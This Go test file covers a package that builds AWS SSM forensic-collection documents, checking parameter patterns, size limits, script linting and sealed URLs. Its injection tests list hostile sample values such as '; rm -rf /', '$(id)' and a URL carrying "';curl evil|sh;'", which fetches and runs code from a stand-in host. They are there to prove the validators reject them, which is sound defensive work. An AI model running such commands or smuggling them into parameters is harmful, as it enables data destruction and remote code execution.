package ssmdocuments

import (
	"bytes"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite documents/*.json from the specs and scripts")

// TestDocumentsUpToDate checks that each committed document is exactly what
// its spec and scripts render to (with -update, rewrites them).
func TestDocumentsUpToDate(t *testing.T) {
	for _, d := range allDocuments() {
		t.Run(d.Name, func(t *testing.T) {
			want, err := d.Content()
			if err != nil {
				t.Fatal(err)
			}
			if *update {
				if err := os.MkdirAll("documents", 0o755); err != nil {
					t.Fatal(err)
				}
				if err := os.WriteFile(d.FileName(), want, 0o644); err != nil {
					t.Fatal(err)
				}
			}
			got, err := os.ReadFile(d.FileName())
			if err != nil {
				t.Fatalf("%v (run: go test ./ssm-documents -run TestDocumentsUpToDate -update)", err)
			}
			if !bytes.Equal(got, want) {
				t.Fatalf("%s is stale: a script or spec changed; run: go test ./ssm-documents -run TestDocumentsUpToDate -update", d.FileName())
			}
		})
	}
	files, err := filepath.Glob("documents/*.json")
	if err != nil {
		t.Fatal(err)
	}
	if len(files) != len(allDocuments()) {
		t.Fatalf("documents/ holds %d files, specs define %d documents", len(files), len(allDocuments()))
	}
}

// Lines where a parameter may appear: a single-quoted assignment, in sh or
// PowerShell. Anywhere else, {{ }} is an error.
var (
	shAssign = regexp.MustCompile(`^[A-Z][A-Z0-9_]*='\{\{ [A-Za-z0-9]+ \}\}'$`)
	psAssign = regexp.MustCompile(`^\$[A-Za-z][A-Za-z0-9]* = '\{\{ [A-Za-z0-9]+ \}\}'$`)
)

// TestDocumentFilesValid validates each committed document file on its own
// terms, as SSM and a reviewer would read it.
func TestDocumentFilesValid(t *testing.T) {
	files, err := filepath.Glob("documents/*.json")
	if err != nil || len(files) == 0 {
		t.Fatalf("no documents: %v", err)
	}
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) {
			raw, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			// SSM counts the document and the parameter values sent with it
			// against 64 KB; leave room for five presigned URLs of 3 KB.
			if len(raw) > 64*1024-15*1024 {
				t.Errorf("document is %d bytes; with parameter values it would pass SSM's 64 KB limit", len(raw))
			}
			var doc docJSON
			dec := json.NewDecoder(bytes.NewReader(raw))
			dec.DisallowUnknownFields()
			if err := dec.Decode(&doc); err != nil {
				t.Fatalf("parse: %v", err)
			}
			if doc.SchemaVersion != "2.2" {
				t.Errorf("schemaVersion %q, want 2.2", doc.SchemaVersion)
			}
			if len(doc.MainSteps) != 1 {
				t.Fatalf("%d steps, want 1", len(doc.MainSteps))
			}
			for name, p := range doc.Parameters {
				if p.Type != "String" {
					t.Errorf("parameter %s: type %q", name, p.Type)
				}
				if p.AllowedPattern == "" {
					t.Errorf("parameter %s: no allowedPattern", name)
					continue
				}
				re, err := regexp.Compile(p.AllowedPattern)
				if err != nil {
					t.Errorf("parameter %s: allowedPattern: %v", name, err)
					continue
				}
				if !strings.HasPrefix(p.AllowedPattern, "^") || !strings.HasSuffix(p.AllowedPattern, "$") {
					t.Errorf("parameter %s: allowedPattern %q is not anchored", name, p.AllowedPattern)
				}
				if p.Default != nil && !re.MatchString(*p.Default) {
					t.Errorf("parameter %s: default %q does not match its allowedPattern", name, *p.Default)
				}
			}

			step := doc.MainSteps[0]
			assign := shAssign
			switch step.Action {
			case "aws:runShellScript":
			case "aws:runPowerShellScript":
				assign = psAssign
			default:
				t.Fatalf("action %q", step.Action)
			}
			uses := map[string]int{}
			if m := paramRef.FindAllStringSubmatch(step.Inputs.TimeoutSeconds, -1); len(m) == 1 &&
				step.Inputs.TimeoutSeconds == m[0][0] {
				uses[m[0][1]]++
				if p, ok := doc.Parameters[m[0][1]]; !ok || p.AllowedPattern != PatternTimeout {
					t.Errorf("timeoutSeconds uses %s, which is not a digits-only parameter", m[0][1])
				}
			} else {
				t.Errorf("timeoutSeconds %q is not a single parameter reference", step.Inputs.TimeoutSeconds)
			}
			for i, line := range step.Inputs.RunCommand {
				if !strings.Contains(line, "{{") {
					continue
				}
				if !assign.MatchString(line) {
					t.Errorf("runCommand line %d uses a parameter outside a single-quoted assignment: %q", i+1, line)
					continue
				}
				uses[paramRef.FindStringSubmatch(line)[1]]++
			}
			// Nothing else in the document may reference a parameter.
			for _, s := range []string{doc.Description, step.Name, step.Action} {
				if strings.Contains(s, "{{") {
					t.Errorf("parameter reference in %q", s)
				}
			}
			for name := range doc.Parameters {
				if uses[name] != 1 {
					t.Errorf("parameter %s is used %d times, want once", name, uses[name])
				}
			}
			for name := range uses {
				if _, ok := doc.Parameters[name]; !ok {
					t.Errorf("runCommand uses undeclared parameter %s", name)
				}
			}
		})
	}
}

// injection samples: none of them may pass any allowedPattern, alone or
// appended to a valid value.
var injections = []string{
	"; rm -rf /", "$(id)", "`id`", "a'b", "'", "a\nb", "\n", "a\"b", "a b", `a\b`, "a;b", "a|b",
	"$HOME", "${IFS}", "a>b", "a<b", "\x00", "a\rb", "a\tb", "\u2019", "https://x/a$(id)",
	"https://x/a';id;'", "https://x/`id`", "https://x/a b", "http://x/a",
}

// validSample returns a value each pattern must accept.
func validSample(t *testing.T, p Parameter) string {
	t.Helper()
	switch p.AllowedPattern {
	case PatternCaseID:
		return "case-2026.01_x"
	case PatternURL, PatternURLOrNone:
		return "https://bucket.s3.us-east-1.amazonaws.com/cases/c1/mem.lime.zst?partNumber=1&uploadId=a.b_c-d&" + presignQuery
	case PatternSHA256, PatternSHA256OrNone:
		return strings.Repeat("ab", 32)
	case PatternSealingKeyID:
		return strings.Repeat("0f", 16)
	case PatternSealed:
		return "rs1.AAAA+/==.BBBB"
	case PatternVolumes:
		return "vol-0123456789abcdef0:/dev/sdf,vol-01234567:/dev/xvdg"
	case PatternBucket:
		return "responder-evidence-111122223333"
	case PatternCaseKey:
		return "cases/case-2026.01_x/i-0123/memory/run-001/memory-image"
	case `^(volatility|plaso)$`:
		return "plaso"
	case PatternAnalysisPrefix:
		return "cases/case-2026.01_x/analysis/ws-004/"
	}
	if p.Default != "" {
		return p.Default
	}
	t.Fatalf("no sample for parameter %s (%s)", p.Name, p.AllowedPattern)
	return ""
}

func TestAllowedPatternsRejectInjection(t *testing.T) {
	for _, d := range allDocuments() {
		for _, p := range append(d.DocumentParameters(), d.Parameters...) {
			t.Run(d.Name+"/"+p.Name, func(t *testing.T) {
				re := regexp.MustCompile(p.AllowedPattern)
				valid := validSample(t, p)
				if !re.MatchString(valid) {
					t.Fatalf("pattern rejects the valid sample %q", valid)
				}
				for _, inj := range injections {
					for _, v := range []string{inj, valid + inj, inj + valid} {
						if re.MatchString(v) {
							t.Errorf("pattern accepts %q", v)
						}
					}
				}
			})
		}
	}
}

func TestPatternBounds(t *testing.T) {
	tests := []struct {
		pattern string
		ok      []string
		bad     []string
	}{
		{PatternPartSizeMiB, []string{"5", "9", "10", "64", "999", "1000", "4999", "5000", "5119", "5120"},
			[]string{"0", "4", "05", "5121", "5200", "6000", "10000", ""}},
		{PatternTimeout, []string{"1", "3600", "99999", "100000", "169999", "172799", "172800"},
			[]string{"0", "172801", "173000", "180000", "999999", "01", ""}},
		{PatternRecentDays, []string{"1", "7", "89", "90"}, []string{"0", "91", "100", "007", ""}},
		{PatternCaseID, []string{"a", "A1", strings.Repeat("a", 64)}, []string{"", ".a", "-a", strings.Repeat("a", 65)}},
		{PatternSHA256OrNone, []string{"none", strings.Repeat("0", 64)}, []string{"NONE", strings.Repeat("A", 64), strings.Repeat("0", 63)}},
	}
	for _, tt := range tests {
		re := regexp.MustCompile(tt.pattern)
		for _, v := range tt.ok {
			if !re.MatchString(v) {
				t.Errorf("%s rejects %q", tt.pattern, v)
			}
		}
		for _, v := range tt.bad {
			if re.MatchString(v) {
				t.Errorf("%s accepts %q", tt.pattern, v)
			}
		}
	}
}

func TestSendCommandParameters(t *testing.T) {
	doc, _ := Lookup(LinuxVolatileData)
	url := "https://b.s3.amazonaws.com/k?X-Amz-Signature=abc"
	priv, key := testSealingKey(t)
	tests := []struct {
		name    string
		values  map[string]string
		want    map[string][]string
		wantErr []string
	}{
		{"defaults filled, URLs sealed", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url},
			map[string][]string{"CaseId": {"c1"}, "RecentDays": {"7"}, "ExecutionTimeout": {"3600"}, ParamSealingKeyID: {key.ID}}, nil},
		{"missing required", map[string]string{"CaseId": "c1"}, nil, []string{"ArchiveUrl: required", "ResultUrl: required"}},
		{"injection refused without echoing the value", map[string]string{"CaseId": "c1", "ArchiveUrl": url + "';curl evil|sh;'", "ResultUrl": url},
			nil, []string{"ArchiveUrl: value does not match"}},
		{"unknown parameter", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url, "Commands": "id"},
			nil, []string{"Commands: not a parameter"}},
		{"a sealed parameter in clear", map[string]string{"CaseId": "c1", "ArchiveUrl": url, "ResultUrl": url, ParamSealed: "rs1.AAAA"},
			nil, []string{ParamSealed + ": not a parameter"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := doc.SendCommandParameters(tt.values, &key)
			if tt.wantErr != nil {
				if !errors.Is(err, ErrInvalidParameters) {
					t.Fatalf("err = %v, want ErrInvalidParameters", err)
				}
				for _, w := range tt.wantErr {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("error %q lacks %q", err, w)
					}
				}
				if strings.Contains(err.Error(), "evil") || strings.Contains(err.Error(), "X-Amz-Signature") {
					t.Errorf("error echoes a parameter value: %q", err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			sealed := got[ParamSealed]
			delete(got, ParamSealed)
			gotJSON, _ := json.Marshal(got)
			wantJSON, _ := json.Marshal(tt.want)
			if !bytes.Equal(gotJSON, wantJSON) {
				t.Errorf("got %s, want %s", gotJSON, wantJSON)
			}
			if len(sealed) != 1 || strings.Contains(sealed[0], "X-Amz-Signature") || strings.Contains(sealed[0], "https://") {
				t.Fatalf("Sealed = %q: want the URLs encrypted", sealed)
			}
			opened, err := doc.Unseal(priv, sealed[0])
			if err != nil {
				t.Fatal(err)
			}
			if want := map[string]string{"ArchiveUrl": url, "ResultUrl": url}; !reflect.DeepEqual(opened, want) {
				t.Errorf("unsealed %v, want %v", opened, want)
			}
		})
	}
}

func TestPlanParts(t *testing.T) {
	const gib = int64(1) << 30
	tests := []struct {
		name      string
		memory    int64
		preferred int
		wantMiB   int
		wantParts int
		wantErr   bool
	}{
		{"small instance", 1 * gib, 64, 64, 17, false},
		{"16 GiB", 16 * gib, 64, 64, 259, false},
		{"1 TiB grows the part size", 1024 * gib, 64, 106, 9992, false},
		{"24 TiB", 24 * 1024 * gib, 64, 2542, 10000, false},
		{"too large", 64 * 1024 * gib, 64, 0, 0, true},
		{"part size below S3 minimum", gib, 4, 0, 0, true},
		{"no memory", 0, 64, 0, 0, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			mib, parts, err := PlanParts(tt.memory, tt.preferred)
			if (err != nil) != tt.wantErr {
				t.Fatalf("err = %v", err)
			}
			if err != nil {
				return
			}
			if mib != tt.wantMiB || parts != tt.wantParts {
				t.Errorf("PlanParts = %d MiB x %d, want %d MiB x %d", mib, parts, tt.wantMiB, tt.wantParts)
			}
			if parts > MaxParts || int64(mib)<<20*int64(parts) < tt.memory+tt.memory/100 {
				t.Errorf("plan %d MiB x %d cannot hold the worst case", mib, parts)
			}
		})
	}
}

// TestLinuxWrappersShellcheck lints the sh wrapper of each Linux document,
// with the parameters substituted as SSM would.
func TestLinuxWrappersShellcheck(t *testing.T) {
	requireTools(t, "shellcheck")
	for _, d := range allDocuments() {
		if d.Platform != "Linux" {
			continue
		}
		t.Run(d.Name, func(t *testing.T) {
			lines, err := d.runCommand()
			if err != nil {
				t.Fatal(err)
			}
			script := paramRef.ReplaceAllString(strings.Join(lines, "\n")+"\n", "value")
			path := filepath.Join(t.TempDir(), "wrapper.sh")
			if err := os.WriteFile(path, []byte(script), 0o600); err != nil {
				t.Fatal(err)
			}
			if res := run(t, nil, "shellcheck", "-s", "sh", path); res.exit != 0 {
				t.Fatalf("shellcheck:\n%s%s", res.stdout, res.stderr)
			}
		})
	}
}

// TestPowerShellStructure is the check available without PowerShell here:
// brackets balance outside strings, here-strings and comments.
func TestPowerShellStructure(t *testing.T) {
	files, _ := filepath.Glob("scripts/*.ps1")
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if err := psBalanced(string(b)); err != nil {
			t.Errorf("%s: %v", f, err)
		}
	}
}

// psBalanced is a small PowerShell tokenizer: it skips comments, strings and
// here-strings and checks that (), {} and [] nest.
func psBalanced(s string) error {
	var stack []rune
	line := 1
	pairs := map[rune]rune{')': '(', '}': '{', ']': '['}
	rs := []rune(s)
	for i := 0; i < len(rs); i++ {
		c := rs[i]
		next := func(k int) rune {
			if i+k < len(rs) {
				return rs[i+k]
			}
			return 0
		}
		switch {
		case c == '\n':
			line++
		case c == '<' && next(1) == '#':
			end := strings.Index(string(rs[i:]), "#>")
			if end < 0 {
				return errors.New("unterminated block comment")
			}
			line += strings.Count(string(rs[i:i+end]), "\n")
			i += end + 1
		case c == '#':
			for i < len(rs) && rs[i] != '\n' {
				i++
			}
			i--
		case c == '@' && (next(1) == '\'' || next(1) == '"') && next(2) == '\n':
			term := "\n" + string(next(1)) + "@"
			end := strings.Index(string(rs[i+2:]), term)
			if end < 0 {
				return errors.New("unterminated here-string")
			}
			line += strings.Count(string(rs[i:i+2+end+len(term)]), "\n")
			i += 2 + end + len(term) - 1
		case c == '\'':
			for i++; i < len(rs); i++ {
				if rs[i] == '\'' {
					if next(1) == '\'' {
						i++
						continue
					}
					break
				}
			}
		case c == '"':
			for i++; i < len(rs); i++ {
				if rs[i] == '`' {
					i++
					continue
				}
				if rs[i] == '"' {
					if next(1) == '"' {
						i++
						continue
					}
					break
				}
			}
		case c == '`':
			i++
		case c == '(' || c == '{' || c == '[':
			stack = append(stack, c)
		case c == ')' || c == '}' || c == ']':
			if len(stack) == 0 || stack[len(stack)-1] != pairs[c] {
				return errors.New("unbalanced " + string(c) + " at line " + itoa(line))
			}
			stack = stack[:len(stack)-1]
		}
	}
	if len(stack) > 0 {
		return errors.New("unclosed " + string(stack[len(stack)-1]))
	}
	return nil
}

func itoa(n int) string {
	b, _ := json.Marshal(n)
	return string(b)
}

func TestPsBalanced(t *testing.T) {
	tests := []struct {
		src string
		ok  bool
	}{
		{"if ($a) { Write-Output 'x}' }", true},
		{"$s = \"a $(Get-Date) {\"; @{ a = 1 }", true},
		{"<# { #>\n# (\n$x = @'\n{ ( [\n'@\n$y = 1", true},
		{"if ($a) { Write-Output 'x' ", false},
		{"foreach ($x in $y)) { }", false},
		{"$a = [int]($b", false},
	}
	for _, tt := range tests {
		if err := psBalanced(tt.src); (err == nil) != tt.ok {
			t.Errorf("psBalanced(%q) = %v, want ok=%v", tt.src, err, tt.ok)
		}
	}
}
